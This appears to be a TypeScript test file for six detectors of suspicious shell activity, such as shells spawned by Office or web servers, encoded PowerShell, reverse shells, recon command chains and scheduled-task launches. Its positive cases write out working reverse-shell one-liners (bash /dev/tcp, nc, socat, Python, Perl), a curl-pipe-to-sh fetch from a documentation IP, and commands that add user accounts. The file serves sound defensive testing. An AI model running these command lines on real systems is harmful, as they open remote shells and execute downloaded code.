// Positive and negative cases for each of the six built-in detectors.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { firing, linuxLine, network, proc, run, service, start, task, windowsLine, LINUX_TERMINAL } from './helpers.js';

const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WORD = proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n report.docm', 10);
const b64 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

test('unusual-shell-execution: Office, PDF, browser parents fire; explorer and terminals do not', () => {
  const f = run('unusual-shell-execution', start(proc(CMD, 'cmd.exe /c calc'), WORD));
  assert.equal(f.length, 1);
  assert.match(f[0].reason, /cmd\.exe started by WINWORD\.EXE \(Office document editor\)/);
  // through a LOLBin
  assert.equal(run('unusual-shell-execution', start(proc(PS, 'powershell -nop'), proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32 x.dll,f'), proc('C:\\Program Files\\Adobe\\AcroRd32.exe'))).length, 1);
  assert.equal(run('unusual-shell-execution', start(proc('/bin/sh', 'sh -c id'), proc('/usr/lib/firefox/firefox', 'firefox'))).length, 1);
  assert.equal(run('unusual-shell-execution', windowsLine('dir')).length, 0);
  assert.equal(run('unusual-shell-execution', linuxLine('ls -la')).length, 0);
  // stock xdg helper from a browser is allowlisted
  assert.equal(run('unusual-shell-execution', start(proc('/bin/sh', '/bin/sh /usr/bin/xdg-settings check default-web-browser google-chrome.desktop'), proc('/opt/google/chrome/chrome', 'chrome'))).length, 0);
});

test('interactive-shell-from-service: web, database and java servers, directly or via ancestors', () => {
  const w3wp = proc('C:\\Windows\\System32\\inetsrv\\w3wp.exe', 'w3wp.exe -ap DefaultAppPool', 5);
  assert.match(run('interactive-shell-from-service', start(proc(CMD, 'cmd /c whoami'), w3wp))[0].reason, /web server w3wp\.exe/);
  assert.equal(run('interactive-shell-from-service', start(proc(CMD, 'cmd /c whoami'), proc('C:\\x\\helper.exe'), w3wp)).length, 1);
  assert.equal(run('interactive-shell-from-service', start(proc(PS, 'powershell -enc AA=='), proc('C:\\Tomcat\\bin\\tomcat9.exe', 'tomcat9.exe //RS//Tomcat9'))).length, 1);
  assert.equal(run('interactive-shell-from-service', start(proc(CMD, 'cmd /c dir'), proc('C:\\SQL\\sqlservr.exe', 'sqlservr.exe -sMSSQLSERVER'))).length, 1);
  assert.equal(run('interactive-shell-from-service', start(proc('/bin/sh', 'sh -c id'), proc('/usr/bin/java', 'java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start'))).length, 1);
  // java that is not a server, a user's ssh session, and stock apache piped logs: no alert
  assert.equal(run('interactive-shell-from-service', start(proc('/bin/sh', 'sh -c id'), proc('/usr/bin/java', 'java -jar gradle-wrapper.jar'))).length, 0);
  assert.equal(run('interactive-shell-from-service', linuxLine('id')).length, 0);
  assert.equal(run('interactive-shell-from-service', start(proc('/bin/sh', '/bin/sh -c /usr/sbin/rotatelogs /var/log/httpd/access 86400'), proc('/usr/sbin/httpd', '/usr/sbin/httpd -DFOREGROUND'))).length, 0);
});

test('encoded-obfuscated-cli: every -EncodedCommand spelling, decoded layers, nested FromBase64String', () => {
  const inner = Buffer.from('Write-Host pwned').toString('base64');
  const payload = b64(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${inner}')))`);
  for (const sw of ['-e', '-en', '-enc', '-EncodedCommand', '-ec', '/enc', '\u2013enc', '\u2014EnCoDeD', '\u2015e']) {
    const f = run('encoded-obfuscated-cli', start(proc(PS, `powershell.exe -nop -w hidden ${sw} ${payload}`)));
    assert.equal(f.length, 1, sw);
    assert.equal(f[0].decoded?.[0].technique, 'powershell-encodedcommand(utf-16le)');
    assert.match(f[0].decoded?.[0].text ?? '', /^IEX/);
    assert.equal(f[0].decoded?.[1]?.text, 'Write-Host pwned');
  }
  // -ExecutionPolicy is not -EncodedCommand
  assert.equal(run('encoded-obfuscated-cli', start(proc(PS, 'powershell -ExecutionPolicy Bypass -File x.ps1'))).length, 0);
  const pipe = run('encoded-obfuscated-cli', linuxLine('echo aWQ7IHdob2FtaQ== | base64 -d | bash'));
  assert.equal(pipe[0].decoded?.[0].text, 'id; whoami');
  assert.equal(run('encoded-obfuscated-cli', linuxLine('bash -c "$(echo aWQ= | base64 --decode)"')).length, 1);
  assert.equal(run('encoded-obfuscated-cli', windowsLine('c^m^d /c p^o^w^e^r^s^h^e^l^l -c %COMSPEC:~-7,1%')).length, 1);
  const chars = run('encoded-obfuscated-cli', start(proc(PS, "powershell -c \"&([char]105+[char]101+[char]120) 'x'\"")));
  assert.ok(chars.length === 1 && (chars[0].evidence?.features as { name: string }[]).some((x) => x.name === 'char-code-assembly'));
  // encoding (not decoding) and plain pipes are fine
  assert.equal(run('encoded-obfuscated-cli', linuxLine('echo hello | base64')).length, 0);
  assert.equal(run('encoded-obfuscated-cli', linuxLine("grep '^root' /etc/group | cut -d: -f4")).length, 0);
});

test('shell-over-reverse-connection: idioms and shell sockets', () => {
  const rs = (line: string): number => run('shell-over-reverse-connection', linuxLine(line)).length;
  assert.equal(rs('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'), 1);
  assert.equal(rs('0<&196;exec 196<>/dev/tcp/10.0.0.5/4444; sh <&196 >&196 2>&196'), 1);
  assert.equal(rs('nc 10.0.0.5 4444 -e /bin/sh'), 1);
  assert.equal(rs('ncat --sh-exec "bash -i" 10.0.0.5 4444') + rs('ncat -e /bin/bash 10.0.0.5 4444'), 2);
  assert.equal(rs('socat tcp-connect:10.0.0.5:4444 exec:"bash -li",pty,stderr'), 1);
  assert.equal(rs('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f'), 1);
  assert.equal(rs(`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.5",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("sh")'`), 1);
  assert.equal(rs(`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("10.0.0.5")))){open(STDIN,">&S");exec("/bin/sh -i");};'`), 1);
  const ps = run('shell-over-reverse-connection', start(proc(PS, `powershell -c "$c=New-Object System.Net.Sockets.TCPClient('10.0.0.5',443);$s=$c.GetStream()"`)));
  assert.equal(ps[0].evidence?.remote, '10.0.0.5:443');
  assert.equal(run('shell-over-reverse-connection', service('C:\\nc.exe -e powershell.exe 10.10.14.26 4447')).length, 1);
  // negatives: a socket opened but not wired to a shell, a toy web server, a port scan
  assert.equal(rs('exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\n" >&3; cat <&3'), 0);
  assert.equal(rs('while true; do nc -l -p 1500 -c \'echo -e "HTTP/1.1 200 OK\\n\\n $(date)"\'; done'), 0);
  assert.equal(rs('nc -zv example.com 20-30'), 0);
  // network: a shell connecting out names the endpoint; loopback does not fire
  const n = run('shell-over-reverse-connection', network(proc('/bin/bash', 'bash -i'), '203.0.113.9', 4444, ...LINUX_TERMINAL));
  assert.match(n[0].reason, /203\.0\.113\.9:4444/);
  assert.equal(run('shell-over-reverse-connection', network(proc('/bin/bash', 'bash'), '127.0.0.1', 5432)).length, 0);
  assert.equal(run('shell-over-reverse-connection', network(proc('/usr/bin/curl', 'curl https://x'), '203.0.113.9', 443, ...LINUX_TERMINAL)).length, 0);
});

test('chained-commands: weighted by recon and context', () => {
  const cc = (ev: Parameters<typeof firing>[0]): number => run('chained-commands', ev).length;
  assert.equal(cc(windowsLine('whoami && net user')), 1);
  assert.equal(cc(start(proc(CMD, 'cmd.exe /c cd /d C:\\inetpub && whoami'), proc('C:\\Windows\\System32\\inetsrv\\w3wp.exe'))), 1);
  // one command with redirections is not a chain (shell-via-scheduled-task-or-service reports wmiexec)
  assert.equal(cc(start(proc(CMD, 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1616161616.5 2>&1'), proc('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'))), 0);
  assert.equal(cc(service('%COMSPEC% /c echo x > \\\\.\\pipe\\x')), 0);
  // a real chain keeps the remote-output evidence
  const pipe = run('chained-commands', service("%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'x' > \\\\.\\pipe\\x"));
  assert.equal(pipe[0]?.evidence?.remoteOutput, '\\\\.\\pipe\\x');
  assert.equal(cc(linuxLine('id; uname -a; cat /etc/passwd; ifconfig')), 1);
  // not chained, no recon, escaped or quoted operators, or an interactive user with little recon
  assert.equal(cc(linuxLine('ls | grep foo')), 0);
  assert.equal(cc(linuxLine('make && make install')), 0);
  assert.equal(cc(windowsLine('echo whoami ^&^& net user')), 0);
  assert.equal(cc(linuxLine("echo 'whoami; id; uname -a; hostname'")), 0);
  assert.equal(cc(linuxLine('whoami && hostname')), 0);
});

test('chained-commands: Windows tradecraft weighs a chain; ) outside a group is a plain character', () => {
  const cc = (ev: Parameters<typeof firing>[0]) => run('chained-commands', ev);
  const chm = cc(start(proc(CMD, 'cmd.exe /c copy /Y C:\\Windows\\system32\\rundll32.exe %TEMP%\\out.exe > nul && %TEMP%\\out.exe javascript:"\\..\\mshtml RunHTMLApplication ";h=new ActiveXObject("x");eval(b)'), proc('C:\\Windows\\hh.exe', 'hh.exe x.chm')));
  assert.equal(chm.length, 1);
  assert.equal(chm[0].evidence?.commands, 2);
  assert.deepEqual(chm[0].evidence?.tradecraft, ['copies-system-binary', 'runs-from-user-writable-path']);
  // an injected command that comments out the rest of the hijacked line
  assert.equal(cc(windowsLine('start /min C:\\Users\\Public\\x.bat && REM \\system32\\cleanmgr.exe')).length, 1);
  // plain copies, a program from Program Files, a lone REM, and POSIX /tmp paths carry no weight
  assert.equal(cc(windowsLine('copy C:\\data\\a.txt D:\\backup && "C:\\Program Files\\7-Zip\\7z.exe" a b.zip')).length, 0);
  assert.equal(cc(windowsLine('REM nothing && echo done')).length, 0);
  assert.equal(cc(linuxLine('cp /bin/ls /tmp/ls && /tmp/ls -la')).length, 0);
});

test('shell-via-scheduled-task-or-service: scheduler ancestry and creations', () => {
  const s = (ev: Parameters<typeof firing>[0]): number => run('shell-via-scheduled-task-or-service', ev).length;
  assert.equal(s(start(proc(CMD, 'cmd.exe /c C:\\Users\\Public\\a.bat'), proc('C:\\Windows\\System32\\taskeng.exe', 'taskeng.exe {GUID} S-1-5-18'))), 1);
  assert.equal(s(start(proc(CMD, 'cmd.exe /k tscon 2 /dest:rdp-tcp#5'), proc('C:\\Windows\\System32\\services.exe'))), 1);
  assert.equal(s(start(proc(CMD, 'cmd.exe /c whoami'), proc('C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'))), 1);
  assert.equal(s(start(proc('/bin/sh', '/bin/sh -c curl -s http://203.0.113.9/x | sh'), proc('/usr/sbin/cron', '/usr/sbin/cron -f'))), 1);
  assert.equal(s(task('C:\\Windows\\System32\\cmd.exe /C C:\\Windows\\System32\\notepad.exe', '\\EventCacheManager')), 1);
  assert.equal(s(service('%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -c "iex x"')), 1);
  assert.equal(s(windowsLine('schtasks /create /tn t /tr "cmd /c calc" /sc onlogon')), 1);
  assert.equal(s(windowsLine('sc create x binPath= "cmd /c net user a b /add"')), 1);
  assert.equal(s(linuxLine('systemd-run --on-active=60 /bin/sh -c "id > /tmp/x"')), 1);
  // stock cron, benign task actions and plain cron jobs do not fire
  assert.equal(s(start(proc('/bin/sh', '/bin/sh -c    cd / && run-parts --report /etc/cron.hourly'), proc('/usr/sbin/cron', '/usr/sbin/cron -f'))), 0);
  assert.equal(s(start(proc('/bin/sh', '/bin/sh -c command -v debian-sa1 > /dev/null && debian-sa1 1 1'), proc('/usr/sbin/cron'))), 0);
  assert.equal(s(start(proc('/bin/sh', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly; curl x|sh'), proc('/usr/sbin/cron'))), 1);
  assert.equal(s(task('C:\\Program Files\\app\\updater.exe /silent')), 0);
  assert.equal(s(windowsLine('schtasks /create /s fs02 /tn t /tr myapp.exe')), 0);
  assert.equal(s(linuxLine('echo "* * * * * script" | crontab -')), 0);
});
